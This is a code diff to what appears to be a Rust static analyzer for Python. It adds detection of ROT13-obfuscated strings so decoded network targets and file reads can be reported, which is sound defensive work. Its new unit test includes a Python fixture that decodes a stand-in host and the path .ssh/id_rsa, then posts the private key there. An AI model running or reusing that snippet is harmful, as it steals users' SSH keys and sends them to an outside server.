@@ -43,6 +43,7 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         call_bind: HashMap::new(),
         lists: HashMap::new(),
         chr_fns: std::collections::HashSet::new(),
+        rot13_fns: std::collections::HashSet::new(),
         times: HashMap::new(),
     };
     let root = tree.root_node();
@@ -106,6 +107,8 @@ struct Py<'s, 'a> {
     lists: HashMap<String, Vec<String>>,
     /// Helpers that build strings from character codes (`_c = lambda *n: "".join(map(chr, n))`).
     chr_fns: std::collections::HashSet<String>,
+    /// Helpers that ROT13 their argument (`_r = lambda s: codecs.decode(s, "rot13")`).
+    rot13_fns: std::collections::HashSet<String>,
     /// Variables holding the current time or an absolute date constant.
     times: HashMap<String, TimeVal>,
 }
@@ -270,6 +273,7 @@ impl<'s, 'a> Py<'s, 'a> {
     /// Functions and methods defined in this file are local call targets.
     fn collect_defs(&mut self, root: Node) {
         let mut chr_helpers = Vec::new();
+        let mut rot_helpers = Vec::new();
         treesitter::walk(root, |n| {
             if n.kind() == "assignment" || n.kind() == "function_definition" {
                 let body = n
@@ -285,10 +289,18 @@ impl<'s, 'a> Py<'s, 'a> {
                         .map(|x| self.t(x).to_string());
                     chr_helpers.extend(name);
                 }
+                if compact.contains("codecs.decode(") && compact.to_lowercase().contains("rot") {
+                    let name = n
+                        .child_by_field_name("left")
+                        .or_else(|| n.child_by_field_name("name"))
+                        .map(|x| self.t(x).to_string());
+                    rot_helpers.extend(name);
+                }
             }
             !matches!(n.kind(), "string" | "comment")
         });
         self.chr_fns.extend(chr_helpers);
+        self.rot13_fns.extend(rot_helpers);
         let mut defs = Vec::new();
         treesitter::walk(root, |n| {
             if n.kind() == "function_definition" {
@@ -2096,9 +2108,23 @@ impl<'s, 'a> Py<'s, 'a> {
                 })
                 .collect::<Option<String>>();
         }
+        if f.kind() == "identifier" && self.rot13_fns.contains(self.t(f)) {
+            let v = self.fold(*self.args(n).first()?, depth + 1)?;
+            return Some(super::deobf::rot13(&v));
+        }
         let (name, _) = self.callee(f, 0);
         let args = self.args(n);
         let method = name.rsplit('.').next().unwrap_or("");
+        // `codecs.decode("uggcf://…", "rot13")`.
+        if matches!(name.as_str(), "codecs.decode" | "codecs.encode")
+            && args.get(1).is_some_and(|a| {
+                let t = self.t(*a).to_lowercase();
+                t.contains("rot13") || t.contains("rot_13")
+            })
+        {
+            let v = self.fold(*args.first()?, depth + 1)?;
+            return Some(super::deobf::rot13(&v));
+        }
         let obj = if f.kind() == "attribute" {
             f.child_by_field_name("object")
         } else {
@@ -2450,6 +2476,19 @@ mod tests {
         assert!(
             ev.iter()
                 .any(|e| e.target == ".netrc" && e.scope == R::Credentials),
+            "{ev:#?}"
+        );
+    }
+
+    #[test]
+    fn rot13_helpers_and_codecs_fold() {
+        let ev = run(
+            "import codecs, requests\n_r = lambda s: codecs.decode(s, 'rot13')\nU = _r('uggcf://pbyyrpg.rknzcyr/va')\nK = codecs.decode('.ffu/vq_efn', 'rot_13')\nrequests.post(U, data=open(K).read())\n",
+        );
+        let send = ev.iter().find(|e| e.op == Op::NetSend).expect("send");
+        assert_eq!(send.target, "https://collect.example/in", "{send:#?}");
+        assert!(
+            ev.iter().any(|e| e.op == Op::FileRead && e.target.ends_with(".ssh/id_rsa")),
             "{ev:#?}"
         );
     }
